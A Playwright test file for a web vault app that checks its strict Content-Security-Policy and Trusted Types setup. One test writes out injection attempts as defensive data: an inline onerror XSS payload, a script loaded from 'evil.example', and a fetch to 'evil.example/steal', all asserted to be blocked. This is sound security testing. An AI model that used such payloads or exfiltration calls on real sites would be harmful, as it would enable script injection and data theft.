import { expect, test } from '@playwright/test';
import { addRecord, createVault, LAB_RECORD, navigate, PASSPHRASE } from './vault-screens.ts';

/** Parses a CSP header into directive -> sources. */
function parseCsp(header: string): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const part of header.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name !== undefined && name !== '') directives.set(name, sources);
  }
  return directives;
}

test('every response carries the strict CSP: the shell, a deep link, sw.js, the manifest, the API', async ({
  request,
}) => {
  for (const path of ['/', '/records/x', '/sw.js', '/manifest.webmanifest', '/healthz']) {
    const response = await request.get(path);
    const header = response.headers()['content-security-policy'];
    expect(header, path).toBeDefined();
    const csp = parseCsp(header ?? '');
    expect(csp.get('object-src'), path).toEqual(["'none'"]);
    expect(csp.get('base-uri'), path).toEqual(["'none'"]);
    expect(csp.get('frame-ancestors'), path).toEqual(["'none'"]);
    expect(csp.get('connect-src'), path).toEqual(["'self'"]);
    expect(csp.get('require-trusted-types-for'), path).toEqual(["'script'"]);
    expect(csp.get('trusted-types'), path).toEqual(['svelte-trusted-html', 'default']);
    const scriptSrc = csp.get('script-src') ?? [];
    expect(scriptSrc.slice(0, 2), path).toEqual(["'self'", "'wasm-unsafe-eval'"]);
    expect(
      scriptSrc.slice(2).every((source) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(source)),
      path,
    ).toBe(true);
    // No 'unsafe-inline', no 'unsafe-eval', no third-party origin anywhere.
    expect(header, path).not.toMatch(/'unsafe-inline'|'unsafe-eval'|https?:\/\/|\*/);
    console.log(`${path}: ${header}`);
  }
});

test('the app runs under the CSP without a single violation on any screen', async ({ page }) => {
  test.setTimeout(180_000);
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      void (window as unknown as { reportViolation: (text: string) => Promise<void> }).reportViolation(
        `${event.violatedDirective} ${event.blockedURI} ${event.sample}`,
      );
    });
  });
  // Creating the vault runs the key derivation in a module Worker: a Trusted Types script-URL sink.
  await createVault(page);
  await addRecord(page, LAB_RECORD);
  for (const path of ['/', '/records', '/personal', '/sharing', '/access-log', '/people', '/settings']) {
    await navigate(page, path);
    await expect(page.locator('#main-content h1')).toBeVisible();
  }
  await expect(page.locator('#svelte-announcer')).toHaveText(/Settings/);
  // Unlocking runs the worker again, from a fresh page.
  await page.getByRole('banner').getByRole('button', { name: 'Lock' }).click();
  await page.getByLabel('Passphrase', { exact: true }).fill(PASSPHRASE);
  await page.getByRole('button', { name: 'Unlock' }).click();
  // Back on the page the vault locked on (issue 11).
  await expect(page.getByRole('heading', { level: 1, name: 'Settings' })).toBeVisible({ timeout: 60_000 });
  await page.goto('/no-such-page');
  await expect(page.getByRole('heading', { level: 1, name: 'Page not found' })).toBeVisible();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  expect(violations).toEqual([]);
});

test('an injected <script> does not run, and strings cannot reach script or HTML sinks', async ({ page }) => {
  await page.goto('/sharing');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const flags = window as unknown as Record<string, unknown>;
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
    const attempt = (run: () => void): string => {
      try {
        run();
        return 'allowed';
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    };
    // 1. An inline script built from a text node: its text never went through a policy, so Trusted Types
    //    refuses to run it (and script-src, having no 'unsafe-inline' and no matching hash, would too).
    const inline = document.createElement('script');
    inline.appendChild(document.createTextNode('window.__inlineRan = true;'));
    document.body.append(inline);
    // 2. Script text through a sink: Trusted Types refuses the string itself.
    const viaText = attempt(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__textRan = true;';
      document.body.append(script);
    });
    // 3. A script URL from elsewhere: refused (no policy lets it through).
    const viaSrc = attempt(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
    });
    // 4. innerHTML with a string: refused by Trusted Types.
    const viaInnerHtml = attempt(() => {
      const target = document.createElement('div');
      document.body.append(target);
      target.innerHTML = '<img src=x onerror="window.__htmlRan = true">';
    });
    // 5. An inline event handler attribute: the string is refused by Trusted Types (and by the CSP).
    const viaHandler = attempt(() => {
      const handler = document.createElement('img');
      handler.setAttribute('onerror', 'window.__handlerRan = true');
      handler.src = '/missing.png';
      document.body.append(handler);
    });
    // 6. A worker from anywhere but the app's own hashed build files: refused by the default policy.
    const viaWorker = attempt(() => new Worker('/evil-worker.js', { type: 'module' }));
    // 7. A connection to a third-party origin: refused by connect-src.
    const fetchResult = await fetch('https://evil.example/steal').then(
      () => 'allowed',
      () => 'refused',
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    return {
      ran: ['__inlineRan', '__textRan', '__htmlRan', '__handlerRan'].filter((name) => flags[name] === true),
      viaText,
      viaSrc,
      viaInnerHtml,
      viaHandler,
      viaWorker,
      fetchResult,
      violations: [...new Set(violations)].sort(),
    };
  });
  console.log('injection outcome:', JSON.stringify(outcome));
  expect(outcome.ran).toEqual([]);
  expect(outcome.viaText).toBe('TypeError');
  expect(outcome.viaSrc).toBe('TypeError');
  expect(outcome.viaInnerHtml).toBe('TypeError');
  expect(outcome.viaHandler).toBe('TypeError');
  expect(outcome.viaWorker).toBe('TypeError');
  expect(outcome.fetchResult).toBe('refused');
  expect(outcome.violations).toEqual(['connect-src', 'require-trusted-types-for']);
});

test('the relay socket on the same origin is allowed by connect-src', async ({ page }) => {
  await page.goto('/');
  const opened = await page.evaluate(
    () =>
      new Promise<boolean>((resolve) => {
        const socket = new WebSocket(`${location.protocol === 'https:' ? 'wss' : 'ws'}://${location.host}/sync`);
        socket.onopen = () => {
          socket.close();
          resolve(true);
        };
        socket.onerror = () => resolve(false);
      }),
  );
  expect(opened).toBe(true);
});
